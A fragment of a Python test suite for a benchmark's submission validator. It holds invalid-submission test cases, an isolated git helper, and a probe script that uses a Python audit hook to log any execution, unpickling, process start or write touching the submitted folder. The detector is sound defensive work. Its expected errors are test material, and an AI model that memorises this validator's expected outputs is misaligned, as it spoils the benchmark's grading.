        "submission.yaml",
        "field checkpoints[1].task: 'count', but step 2 of order 'default' trains 'shape'",
    ),
    Case(
        "checkpoint-steps-out-of-order",
        yaml_sub("- step: 2", "- step: 3"),
        "submission.yaml",
        "steps must be 1..T in order",
    ),
    Case(
        "too-few-checkpoints",
        yaml_sub(
            "- step: 4\n  task: position\n  kind: lora\n  path: checkpoints/adapters/step-4\n", ""
        ),
        "submission.yaml",
        "field checkpoints: 3 checkpoints, but order 'default' has 4",
    ),
    Case(
        "name-differs-from-folder",
        yaml_sub("name: seq-lora-tiny", "name: someone-else"),
        "submission.yaml",
        "field name: 'someone-else' must equal the folder name",
    ),
    Case(
        "replay-without-buffer",
        yaml_sub("uses_replay: false", "uses_replay: true"),
        "submission.yaml",
        "replay_buffer: say how many items per task are kept",
    ),
    Case("submission-missing", remove("submission.yaml"), "submission.yaml", "missing"),
    *ROUND_2,
    *REPORTED,
]


# --------------------------------------------------------------------------- git


def git(repo: Path, *args: str) -> str:
    """Run git in ``repo`` with a fixed identity and no user or system configuration."""
    env = {
        **os.environ,
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_AUTHOR_NAME": "Tester",
        "GIT_AUTHOR_EMAIL": "tester@example.org",
        "GIT_COMMITTER_NAME": "Tester",
        "GIT_COMMITTER_EMAIL": "tester@example.org",
    }
    result = subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, env=env
    )
    assert result.returncode == 0, f"git {' '.join(args)}: {result.stderr}"
    return result.stdout


def commit_all(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "--allow-empty", "-m", message)


# --------------------------------------------------------------------------- the probe

# Run in a fresh interpreter: an audit hook (PEP 578) records every compile or exec of code
# from the watched folder, every import while it is on sys.path, every unpickling, process
# start, library load and write into it; then the real CLI runs. argv: WATCHED LOG ARGS...
PROBE = r"""
import json, os, sys
watched, log_path = os.path.realpath(sys.argv[1]), sys.argv[2]
events = []
WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
# event -> (index of the path argument, index of its dir_fd argument or None)
CHANGES = {"os.remove": [(0, 1)], "os.rmdir": [(0, 1)], "os.mkdir": [(0, 2)],
           "os.chmod": [(0, 2)], "os.utime": [(0, 3)], "os.rename": [(0, 2), (1, 3)],
           "os.replace": [(0, 2), (1, 3)], "os.symlink": [(1, 2)], "os.link": [(1, 3)],
           "os.truncate": [(0, None)], "shutil.rmtree": [(0, 1)],
           "shutil.move": [(0, None), (1, None)]}
ALWAYS = ("pickle.find_class", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
          "os.fork", "os.forkpty", "subprocess.Popen")

def resolve(path, dir_fd=None):
    if not isinstance(path, (str, bytes, os.PathLike)):
        return None
    text = os.fsdecode(path)
    if not text or text.startswith("<"):  # <string>, <frozen ...>: not files
        return None
    if dir_fd is not None and not os.path.isabs(text):
        text = os.path.join(os.readlink(f"/proc/self/fd/{dir_fd}"), text)
    return os.path.realpath(text)

def inside(path, dir_fd=None):
    where = resolve(path, dir_fd)
    return where is not None and (where == watched or where.startswith(watched + os.sep))

def hook(event, args):
    if event == "open":
        path, mode, flags = args
        writing = flags & WRITE_FLAGS if mode is None else set(mode) - set("rbt")
        if writing and inside(path):
            events.append(["write", os.fsdecode(path), repr(mode or flags)])
    elif event in CHANGES:
        for index, fd_index in CHANGES[event]:
            fd = args[fd_index] if fd_index is not None and fd_index < len(args) else None
            if index < len(args) and inside(args[index], fd):
                events.append([event, os.fsdecode(args[index])])
    elif event == "compile" and len(args) > 1 and inside(args[1]):
        events.append([event, os.fsdecode(args[1])])
    elif event == "exec" and inside(getattr(args[0], "co_filename", None)):
        events.append(["exec", args[0].co_filename])
    elif event == "import" and len(args) > 2:
        for entry in args[2] or ():
            if inside(entry or "."):
                events.append(["import with the folder on sys.path", args[0], entry])
                break
    elif event == "ctypes.dlopen" and args and inside(args[0]):
        events.append([event, os.fsdecode(args[0])])
    elif event in ALWAYS:
        events.append([event, repr(args)[:300]])

sys.addaudithook(hook)
from benchmark.cli import main
try:
    code = main(sys.argv[3:])
except SystemExit as exc:
    code = exc.code
with open(log_path, "w") as handle:
    json.dump(events, handle)
sys.exit(code)
"""
